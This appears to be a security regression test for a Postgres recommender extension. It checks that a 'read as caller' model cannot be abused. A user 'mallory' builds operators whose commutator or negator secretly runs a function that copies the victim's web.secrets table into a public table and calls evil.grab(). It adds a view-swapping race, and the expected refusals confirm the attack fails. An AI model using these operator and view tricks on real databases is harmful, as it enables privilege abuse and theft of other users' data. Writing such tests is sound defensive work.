-- A model that reads as its caller stands on a stranger's view with an operator whose commutator or negator the planner asks for its estimates: these do not depend on each other in the
-- catalogues, and are called without a plan, of which Postgres tells nobody.
-- Closed: commutators and negators are looked at; and what would be refused is refused wherever it is called.

-- as postgres
CREATE SCHEMA web AUTHORIZATION web;

-- as web
CREATE TABLE web.secrets AS SELECT 'of web'::text AS s;

-- as mallory
CREATE TABLE mal.ev AS SELECT u::bigint AS user_id, ((u * i) % 50)::bigint AS item_id FROM generate_series(1, 300) u, generate_series(1, 8) i; ANALYZE mal.ev; CREATE TABLE mal.seen (who text, s text); GRANT ALL ON mal.seen TO public;

CREATE FUNCTION mal.write(bigint, bigint) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN IF current_user <> 'mallory' THEN EXECUTE 'INSERT INTO mal.seen SELECT current_user, s FROM web.secrets'; PERFORM evil.grab(); END IF; RETURN true; END $$; CREATE OPERATOR mal.<<< (FUNCTION = int8lt, LEFTARG = bigint, RIGHTARG = bigint, COMMUTATOR = OPERATOR(mal.>>>), RESTRICT = scalarltsel); CREATE OPERATOR mal.>>> (FUNCTION = mal.write, LEFTARG = bigint, RIGHTARG = bigint, COMMUTATOR = OPERATOR(mal.<<<), RESTRICT = scalargtsel);

CREATE OPERATOR mal.=== (FUNCTION = int8eq, LEFTARG = bigint, RIGHTARG = bigint, NEGATOR = OPERATOR(mal.!==), RESTRICT = eqsel); CREATE OPERATOR mal.!== (FUNCTION = mal.write, LEFTARG = bigint, RIGHTARG = bigint, NEGATOR = OPERATOR(mal.===), RESTRICT = scalargtsel);

CREATE VIEW mal.events AS SELECT user_id, item_id FROM mal.ev WHERE 0 OPERATOR(mal.<<<) item_id; CREATE VIEW mal.negated AS SELECT user_id, item_id FROM mal.ev WHERE NOT (item_id OPERATOR(mal.===) 0); CREATE VIEW mal.inner_events AS SELECT user_id, item_id FROM mal.ev; CREATE VIEW mal.outer_events AS SELECT * FROM mal.inner_events; GRANT SELECT ON mal.events, mal.negated, mal.outer_events TO public;

-- expect: ok
SELECT affinity.train_recommender(m, ('mal.' || m)::regclass, kind => 'item_knn', params => '{"read_as": "caller"}') FROM unnest('{events,negated,outer_events}'::text[]) m; SELECT affinity.grant_model(m, 'public', 'all') FROM unnest('{events,negated,outer_events}'::text[]) m;

-- as web
-- expect: 42501
SELECT * FROM affinity.recommend('events', 1, k => 2);

-- expect: 42501
SELECT * FROM affinity.recommend('negated', 1, k => 2);

-- expect: ok
SELECT * FROM affinity.recommend('outer_events', 1, k => 2);

-- meanwhile mallory
BEGIN; CREATE OR REPLACE VIEW mal.inner_events AS SELECT user_id, item_id FROM mal.ev WHERE 0 OPERATOR(mal.<<<) item_id; SELECT pg_sleep(0.03); COMMIT;; CREATE OR REPLACE VIEW mal.inner_events AS SELECT user_id, item_id FROM mal.ev;; SELECT pg_sleep(0.01)

-- as web
DO $$ BEGIN FOR i IN 1 .. 60 LOOP BEGIN PERFORM count(*) FROM affinity.recommend('outer_events', i % 40); EXCEPTION WHEN OTHERS THEN END; PERFORM pg_sleep(0.005); END LOOP; END $$;

-- until now
-- as mallory
-- expect: none
SELECT * FROM mal.seen WHERE who <> 'mallory';
